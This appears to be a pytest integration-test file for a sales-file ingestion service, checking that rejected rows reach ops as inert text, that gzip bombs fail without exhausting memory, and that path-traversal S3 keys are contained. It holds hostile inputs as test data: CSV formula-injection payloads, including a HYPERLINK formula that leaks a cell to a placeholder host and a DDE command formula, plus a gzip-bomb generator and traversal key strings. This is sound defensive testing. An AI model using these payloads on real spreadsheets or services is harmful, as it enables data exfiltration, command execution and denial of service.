"""A sales file is untrusted input (moto, S3 → SQS → the queue handler): what it carries never
reaches ops as a live spreadsheet formula, and its key never chooses where our outputs go."""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import re
import struct
import subprocess
import sys
import zlib
from pathlib import Path
from typing import Any

import pytest

from chalicelib.csv_safe import DANGEROUS_FIRST
from chalicelib.services.sales_files import limits
from chalicelib.store import aws
from tests.integration.test_ingest_files import (  # the shared harness
    BUCKET,
    HEADER,
    WELCOME,
    Harness,
    available,
    counts,
    enrol,
    ingest,  # noqa: F401  (fixture)
    sale,
)

ROOT = Path(__file__).resolve().parents[2]
AT = "2026-11-21T18:03:11+08:00"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|x",
    "@SUM(1+1)*cmd|x",
    "\t=1+1",
    "\r=1+1",
    "\t",
    "\r",
]


def csv_text(rows: list[list[str]]) -> str:
    text = io.StringIO(newline="")
    csv.writer(text, lineterminator="\r\n").writerows(rows)
    return text.getvalue()


# --- formulas in the rejects file ----------------------------------------------------------------


def test_formulas_in_rejected_rows_reach_the_rejects_file_as_text(ingest: Harness) -> None:  # noqa: F811
    # Given: a file whose rejected rows hold formulas in every kind of column, and an unknown
    # column whose name is a formula
    enrol("m1")
    header = [*HEADER.split(","), "@note"]
    rows = [header]
    for i, formula in enumerate(FORMULAS):
        rows.append(["s1", f"r{i}", AT, "SALE", formula, "CNY", "m1", "", "", formula])  # bad_amount
    rows.append(["s1", FORMULAS[0], AT, "SALE", "1.00", "CNY", "", "", "", ""])  # bad_receipt_id
    rows.append(["s1", "ok1", AT, "SALE", "-5", "CNY", "m1", "", "", ""])  # a negative amount
    rows.append(["s1", "ok2", AT, "SALE", "10.00", "CNY", "m1", "", "", "=1+1"])  # applied

    # When
    report = ingest.run(csv_text(rows))

    # Then: the rows are rejected (or applied) as before, and the rejects file holds no cell a
    # spreadsheet would evaluate; each dangerous cell reads as the original behind a quote
    assert counts(report) == (len(FORMULAS) + 3, 1, 0, len(FORMULAS) + 2)
    assert available("m1") == WELCOME + 10
    rejects = ingest.rejects()
    assert rejects[0] == ["row", "reason", "message", *HEADER.split(","), "'@note"]
    for line in rejects:
        assert all(cell[:1] not in DANGEROUS_FIRST for cell in line), line
    by_row = {int(line[0]): line for line in rejects[1:]}
    for i, formula in enumerate(FORMULAS):
        line = by_row[i + 2]
        assert line[1] == ("missing_field" if formula.isspace() else "bad_amount")
        assert line[3 + 4] == line[3 + 9] == "'" + formula
    assert by_row[len(FORMULAS) + 2][3 + 1] == "'" + FORMULAS[0]
    assert by_row[len(FORMULAS) + 3][3 + 4] == "'-5"  # quoted too: acceptable (OWASP)


def test_formulas_in_rejects_of_a_file_in_chunks_and_returns_are_text(
    ingest: Harness,  # noqa: F811
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Rejects of both phases are merged per chunk (the returns phase reads the sales part back)."""
    monkeypatch.setattr(limits, "ROWS_PER_CHUNK", 2)
    enrol("m1")
    rows = [HEADER.split(",")]
    rows.append(["s1", "r1", AT, "SALE", "+1", "CNY", "m1", "", ""])  # sales phase: bad_amount
    rows.append(["s1", "x1", AT, "RETURN", "1.00", "CNY", "", "=nope", ""])  # returns phase: bad original id
    rows.append(["s1", "x2", AT, "RETURN", "1.00", "CNY", "", "nope", "@cat"])  # returns phase: unknown sale
    rows.append(["s1", "r2", AT, "SALE", "-1", "CNY", "m1", "", ""])

    report = ingest.run(csv_text(rows))

    assert report["rejected"] == 4
    rejects = ingest.rejects()
    assert [line[0] for line in rejects[1:]] == ["2", "3", "4", "5"]
    for line in rejects:
        assert all(cell[:1] not in DANGEROUS_FIRST for cell in line), line
    assert [line[3 + 4] for line in rejects[1:]] == ["'+1", "1.00", "1.00", "'-1"]
    assert rejects[2][3 + 7] == "'=nope" and rejects[3][3 + 8] == "'@cat"


def test_a_clean_file_has_an_unchanged_rejects_header(ingest: Harness) -> None:  # noqa: F811
    ingest.run(csv_text([HEADER.split(","), sale("r1", "1.00").split(",")]))
    body = aws.client("s3").get_object(Bucket=BUCKET, Key="rejects/s1/2026-11-21.csv")["Body"].read()
    assert body == ("row,reason,message," + HEADER + "\r\n").encode()


# --- a gzip bomb -----------------------------------------------------------------------------------

MIB = 1024 * 1024
CHILD_FILE, CHILD_OUT = "INGEST_CHILD_FILE", "INGEST_CHILD_OUT"


def gzip_bomb(path: Path, prefix: bytes, mebibytes: int, byte: bytes = b"A") -> None:
    """A gzip file of `prefix`, then `mebibytes` MiB of one byte repeated with no line end: one
    deflate stream, written block by block. After a full flush the compressor is back in the same
    state, so every further MiB compresses to the same bytes: they are written again, not
    compressed again (1 GiB takes a second, and memory stays at one block)."""
    block = byte * MIB
    deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)  # raw deflate: we write the gzip frame
    crc, size = zlib.crc32(prefix), len(prefix)
    with path.open("wb") as out:
        out.write(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff")  # magic, deflate, no flags or mtime
        out.write(deflate.compress(prefix) + deflate.flush(zlib.Z_FULL_FLUSH))
        compressed = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
        for _ in range(mebibytes):
            out.write(compressed)
            crc, size = zlib.crc32(block, crc), size + MIB
        out.write(deflate.flush())
        out.write(struct.pack("<II", crc, size & 0xFFFFFFFF))


def test_the_bomb_helper_writes_a_valid_gzip_file(tmp_path: Path) -> None:
    path = tmp_path / "small.csv.gz"
    gzip_bomb(path, b"header\n", 3, b"x")
    assert gzip.decompress(path.read_bytes()) == b"header\n" + b"x" * 3 * MIB


def _rss_mb(field: str) -> float:
    status = Path("/proc/self/status").read_text()
    return int(re.search(rf"^{field}:\s+(\d+) kB", status, re.M).group(1)) / 1024  # type: ignore[union-attr]


def _reset_peak() -> float:
    """Reset the peak RSS to the current RSS where Linux allows it; returns the baseline to compare
    the peak with (the peak so far when it cannot be reset)."""
    try:
        Path("/proc/self/clear_refs").write_text("5")
    except OSError:
        return _rss_mb("VmHWM")
    return _rss_mb("VmRSS")


@pytest.mark.skipif(CHILD_FILE not in os.environ, reason="run in a child process by the bomb tests below")
def test_ingest_one_file_in_this_process(ingest: Harness) -> None:  # noqa: F811
    """The child: ingests the file through the queue handler, writes the report and its memory."""
    enrol("m1")
    ingest.upload(Path(os.environ[CHILD_FILE]).read_bytes(), "2026-11-21.csv.gz")
    before = _reset_peak()
    ingest.deliver()
    peak = _rss_mb("VmHWM")
    report = ingest.report("2026-11-21.csv.gz")
    result = {"report": report, "before_mb": before, "peak_mb": peak, "after_mb": _rss_mb("VmRSS")}
    result["available"] = available("m1")
    Path(os.environ[CHILD_OUT]).write_text(json.dumps(result))


def ingest_in_child(path: Path, tmp_path: Path) -> dict[str, Any]:
    out = tmp_path / "child.json"
    env = {**os.environ, CHILD_FILE: str(path), CHILD_OUT: str(out)}
    test = f"{Path(__file__).relative_to(ROOT)}::test_ingest_one_file_in_this_process"
    command = [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "-p", "no:randomly", test]
    done = subprocess.run(command, cwd=ROOT, env=env, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    result: dict[str, Any] = json.loads(out.read_text())
    return result


@pytest.mark.parametrize(
    "prefix",
    [b"", (HEADER + "\n" + sale("r1", "10.00", "m1") + "\n").encode()],
    ids=["one-endless-line", "a-header-a-row-then-an-endless-line"],
)
def test_a_gzip_bomb_fails_the_file_without_taking_the_memory(tmp_path: Path, prefix: bytes) -> None:
    # Given: 1.1 MB of gzip that expands to 1.1 GB (more than the 1 GiB limit), mostly one line
    bomb = tmp_path / "bomb.csv.gz"
    gzip_bomb(bomb, prefix, 1100)
    assert bomb.stat().st_size < 2 * MIB

    # When: it is uploaded and ingested, in a process of its own
    result = ingest_in_child(bomb, tmp_path)

    # Then: it fails as too large, applies nothing, and the process's peak memory stays close to
    # what it was before the file (the bytes are never built into one line)
    report = result["report"]
    assert (report["status"], report["reason"]) == ("failed", "too_large"), report
    assert counts(report) == (0, 0, 0, 0)
    assert result["available"] == WELCOME
    assert result["peak_mb"] - result["before_mb"] < 100, result


# --- keys off the naming rule --------------------------------------------------------------------

OFF_THE_RULE = [
    "incoming/S1/../../reports/x.json",
    "incoming/s1/../s2/2026-11-21.csv",  # would land on store s2's report once normalised
    "incoming/../reports/s1/2026-11-21.csv",
    "incoming/s1/./2026-11-21.csv",
    "incoming/s1//2026-11-21.csv",
    "incoming/s1/2026-11-21.csv/..",
    "incoming/s1\\..\\..\\reports\\2026-11-21.csv",
    "incoming/s1/" + "n" * 1000 + ".csv",  # S3 allows 1,024 bytes
    "incoming/s1/%C3%A9%FF%FE+x .csv",  # percent escapes, a plus and a space as they are
    "incoming/s1/Ã©tÃ© Ã¼\ufffd\u202e.csv",  # mojibake, U+FFFD, a right-to-left override
]
SAFE_OUTPUT = re.compile(r"^reports/_bad_key/[0-9a-f]{24}\.json$")


def test_reports_of_keys_off_the_rule_are_named_by_their_file_id(ingest: Harness) -> None:  # noqa: F811
    # Given: files uploaded under keys that break the naming rule in every way we know
    for key in OFF_THE_RULE:
        aws.client("s3").put_object(Bucket=BUCKET, Key=key, Body=sale("r1", "1.00").encode())

    # When
    ingest.deliver()

    # Then: each failed as bad_key, with its report under reports/_bad_key/<file id>.json, and
    # nothing else was written anywhere in the bucket
    written = [
        item["Key"]
        for page in aws.client("s3").get_paginator("list_objects_v2").paginate(Bucket=BUCKET)
        for item in page.get("Contents", [])
        if item["Key"] not in OFF_THE_RULE
    ]
    assert all(SAFE_OUTPUT.match(key) for key in written), written
    reports = [json.loads(aws.client("s3").get_object(Bucket=BUCKET, Key=key)["Body"].read()) for key in written]
    assert sorted(report["key"] for report in reports) == sorted(OFF_THE_RULE)
    for report, key in zip(reports, written, strict=True):
        assert (report["status"], report["reason"]) == ("failed", "bad_key")
        assert report["report_key"] == key == f"reports/_bad_key/{report['file_id']}.json"
        assert report["rejects_key"] == f"rejects/_bad_key/{report['file_id']}.csv"
